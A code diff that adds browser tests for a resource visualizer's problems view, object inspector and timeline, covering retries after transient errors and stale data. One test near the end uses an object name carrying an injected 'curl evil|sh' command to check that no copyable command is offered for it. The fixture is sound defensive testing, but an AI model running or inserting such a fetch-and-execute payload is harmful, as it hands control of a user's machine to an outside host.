@@ -7,7 +7,8 @@ import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
 import { systemClock } from '../../../actors/base/clock.ts';
 import { serveVisualizer } from '../../../actors/visualizer/server.ts';
-import type { Inspected, Problems, Tree } from '../../../actors/visualizer/wire.ts';
+import type { Inspected, Problem, Problems, Tree } from '../../../actors/visualizer/wire.ts';
+import { TransientError } from '../../../bus/mod.ts';
 import {
   accessibilityProblems,
   assertNoComplaints,
@@ -446,6 +447,121 @@ test('35.A4: problems are by root cause, the same ones folded, with a command to
     await page.locator('.big', { hasText: '600' }).first().waitFor();
     const title = (await page.locator('.prob h2.title').innerText()).split(' ')[0];
     assert.is(await page.locator('.badge').first().innerText(), title, 'the tab counts what the view counts');
+  }));
+
+const QUOTA: Problem = {
+  severity: 'person',
+  namespace: 'shop',
+  key: NETWORK,
+  waiting: [SUBNET],
+  summary: 'quota is used up',
+  advice: 'raise it',
+};
+/** Time after which an object that is chosen as the page opens was read twice, in milliseconds. */
+const AGAIN_MS = 2_000;
+/** Limit of a wait for a view to become current, in milliseconds: far beyond its pauses, far below that of other waits. */
+const CURRENT = { timeout: 30_000 };
+
+test('the problems are read again until the answer is newer than the last change of an object', () =>
+  withPage(async ({ source, open }) => {
+    shop(source);
+    const kept: Problems = { at: clock.now(), problems: [QUOTA], leases: [], services: [], notes: [] };
+    let left = 2;
+    let asked = 0;
+    // The server keeps an answer for a while.
+    source.problems = async () => {
+      asked += 1;
+      return asked === 1 || left-- > 0 ? kept : { ...kept, at: clock.now(), problems: [] };
+    };
+    const { page } = await open('#view=problems');
+    await page.locator('.pc', { hasText: 'Quota is used up' }).waitFor();
+    left = 2;
+    source.move(NETWORK, 'idle.available', 'available');
+    await page.getByText('No problems').waitFor(CURRENT);
+    const current = asked;
+    await clock.sleep(4_000);
+    assert.is(asked, current, 'a current answer is not read again at once');
+  }));
+
+test('problems that cannot be read are shown as they were, with the reason, and read again', () =>
+  withPage(async ({ source, open }) => {
+    shop(source);
+    const { problems } = source;
+    source.problemsNow = { at: 0, problems: [QUOTA], leases: [], services: [], notes: [] };
+    const { page } = await open('#view=problems');
+    await page.locator('.pc', { hasText: 'Quota is used up' }).waitFor();
+    source.problems = () => Promise.reject(new TransientError('cannot list subnets'));
+    source.move(NETWORK, 'idle.available', 'available');
+    await page.locator('.bad', { hasText: 'cannot list subnets' }).waitFor(CURRENT);
+    await page.locator('.pc', { hasText: 'Quota is used up' }).waitFor();
+    source.problemsNow = { ...source.problemsNow, problems: [] };
+    source.problems = problems;
+    await page.getByText('No problems').waitFor(CURRENT);
+    await page.locator('.bad').waitFor({ state: 'detached' });
+  }));
+
+test('the summary shows no root cause that is over: it is read again when an object of the chain changes', () =>
+  withPage(async ({ source, open }) => {
+    shop(source);
+    source.details.set(SUBNET, {
+      chain: [
+        { depth: 0, key: SUBNET, label: 'Subnet/front-v4', standing: 'waiting', said: '' },
+        { depth: 1, key: NETWORK, label: 'Network/front', standing: 'failing', said: '' },
+      ],
+      causes: [{ severity: 'person', summary: 'Network/front: quota is used up', advice: 'raise it' }],
+    });
+    const { page } = await open(`#object=${SUBNET}`);
+    const cause = page.locator('.inspector').getByText('Quota is used up').first();
+    await cause.waitFor();
+    await clock.sleep(AGAIN_MS);
+    source.details.delete(SUBNET);
+    source.move(NETWORK, 'reconciling.updating', 'busy');
+    await cause.waitFor({ state: 'detached', ...CURRENT });
+  }));
+
+test('an object that cannot be read is read again', () =>
+  withPage(async ({ source, open }) => {
+    shop(source);
+    const { inspect } = source;
+    source.inspect = () => Promise.reject(new TransientError('the API server is away'));
+    const { page } = await open(`#object=${SUBNET}`);
+    await page.locator('.inspector .bad', { hasText: 'the API server is away' }).waitFor();
+    await clock.sleep(AGAIN_MS);
+    source.inspect = inspect;
+    await page.locator('.inspector .bad').waitFor({ state: 'detached', ...CURRENT });
+    await page.getByText('Waiting for Network/front to be ready').waitFor(CURRENT);
+  }));
+
+test('a history that cannot be read is read again', () =>
+  withPage(async ({ source, open }) => {
+    shop(source);
+    source.move(NETWORK, 'building.creating', 'busy', { cause: 'lifecycle.started' });
+    source.move(NETWORK, 'idle.available', 'available');
+    const { history } = source;
+    source.history = () => Promise.reject(new TransientError('the bus is away'));
+    const { page } = await open('#view=timeline');
+    await page.getByText('nothing is kept from before').waitFor();
+    await clock.sleep(AGAIN_MS);
+    source.history = history;
+    await page.locator('.tl').waitFor(CURRENT);
+  }));
+
+test('a missing object whose name is hostile offers no command', () =>
+  withPage(async ({ source, open }) => {
+    const missing = keyOf('Network', 'shop', 'net\ncurl evil|sh\n#');
+    source.add('Subnet', 'shop', 'front-v4', { state: 'waiting', tone: 'waiting', needs: [missing] });
+    source.problemsNow = {
+      at: 0,
+      problems: [{ ...QUOTA, key: missing }],
+      leases: [],
+      services: [],
+      notes: [],
+    };
+    const { page } = await open(`#view=problems&object=${encodeURIComponent(missing)}`);
+    await page.locator('.inspector').waitFor();
+    await page.locator('.pc').waitFor();
+    assert.is(await page.getByRole('button', { name: 'Copy command' }).count(), 0);
+    assert.is(await page.getByRole('button', { name: 'Copy link' }).count(), 1);
   }));
 
 test('35.A4: the timeline has the critical path on top and ends when all is settled; a part of it is a link', () =>
